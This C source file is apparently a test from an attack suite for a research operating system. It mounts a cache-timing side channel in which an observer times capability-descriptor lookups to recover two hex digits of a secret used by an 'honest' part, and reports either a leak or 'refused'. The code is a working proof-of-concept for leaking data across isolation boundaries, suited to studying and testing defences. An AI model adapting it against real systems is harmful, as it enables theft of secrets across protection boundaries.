/* What a predictor of capabilities tells from one part of a program to another. way=N:
   1 the honest part uses one of 16 capabilities by each of two digits of the secret, always behind the same public one;
     the observer pushes their copied descriptors out, uses the public capability, and times its own use of the 16:
     which of them was fetched ahead? */
#include "attack.h"
#include "memory.h"

enum { DIGITS = 2, CHOICES = 16, TRAININGS = 4, PLACES = 256, SLOTS_PER_LINE = 2, FILLER_BYTES = 128 << 10 };

static char secret[SECRET_BYTES];
static char word[8];
static int64_t trigger, choices[CHOICES], others[PLACES];

static int value(char digit)
{
    return digit <= '9' ? digit - '0' : digit - 'a' + 10;
}

/* Both parts call the same library: its call site is one. */
__attribute__((noinline)) static void use(int64_t handle)
{
    ros_read(handle, word, sizeof(word), 0);
}

static void honest_part(int digit)
{
    for (int i = 0; i < TRAININGS; i++) {
        use(trigger);
        use(choices[value(secret[4 + digit])]);
    }
}

static uint64_t timed_use(int64_t handle)
{
    full_fence();
    uint64_t begin = cycle_counter();
    use(handle);
    full_fence();
    return cycle_counter() - begin;
}

/* Slots are given out in order, and a descriptor's place in the cache is its slot modulo its size: the last that the
   observer opened stand where the choices do. The table itself leaves the first caches, too. */
static void push_out(void)
{
    static volatile char filler[FILLER_BYTES];
    for (unsigned at = 0; at < FILLER_BYTES; at += ROS_LINE_SIZE)
        filler[at];
    for (int i = PLACES - CHOICES; i < PLACES; i++)
        use(others[i]);
}

static void measure_choices(int digit, uint64_t *cycles)
{
    for (int step = 0; step <= CHOICES; step++) {
        int at = step % CHOICES; /* the first once more: it was cold */
        honest_part(digit);
        push_out();
        use(trigger);
        cycles[at] = timed_use(choices[at]);
    }
}

/* The choice that is used faster than any other, or CHOICES. */
static int fastest(int digit)
{
    uint64_t cycles[CHOICES];
    measure_choices(digit, cycles);
    int best = 0, second = 1;
    for (int i = 1; i < CHOICES; i++) {
        if (cycles[i] < cycles[best]) {
            second = best;
            best = i;
        } else if (second == best || cycles[i] < cycles[second]) {
            second = i;
        }
    }
    return cycles[second] - cycles[best] > cycles[best] / 256 ? best : CHOICES;
}

WAY static void probe(void)
{
    char text[DIGITS + 1] = {0};
    int told = 0;
    trigger = ros_open(PUBLIC, ROS_READ_ONLY, 0);
    for (int i = 0; i < SLOTS_PER_LINE; i++)
        ros_open(PUBLIC, ROS_READ_ONLY, 0); /* so that no choice shares its line */
    for (int i = 0; i < CHOICES; i++)
        choices[i] = ros_open(PUBLIC, ROS_READ_ONLY, 0);
    for (int i = 0; i < PLACES; i++)
        others[i] = ros_open(PUBLIC, ROS_READ_ONLY, 0);
    for (int digit = 0; digit < DIGITS; digit++) {
        int best = fastest(digit);
        told += best < CHOICES && fastest(digit) == best; /* chance does not say the same twice */
        text[digit] = (char)(best < 10 ? '0' + best : 'a' + best - 10);
    }
    if (told == DIGITS)
        say("obtained digits ", text);
    else
        refused("no capability is used faster than the others", 0);
}

int ros_main(int argc, char **argv)
{
    start(argc, argv, 1);
    ros_read(ros_open(SECRET, ROS_READ_ONLY, 0), secret, sizeof(secret), 0);
    if (parameter(argc, argv, "way", 1) != 1)
        return 64;
    probe();
    return 0;
}
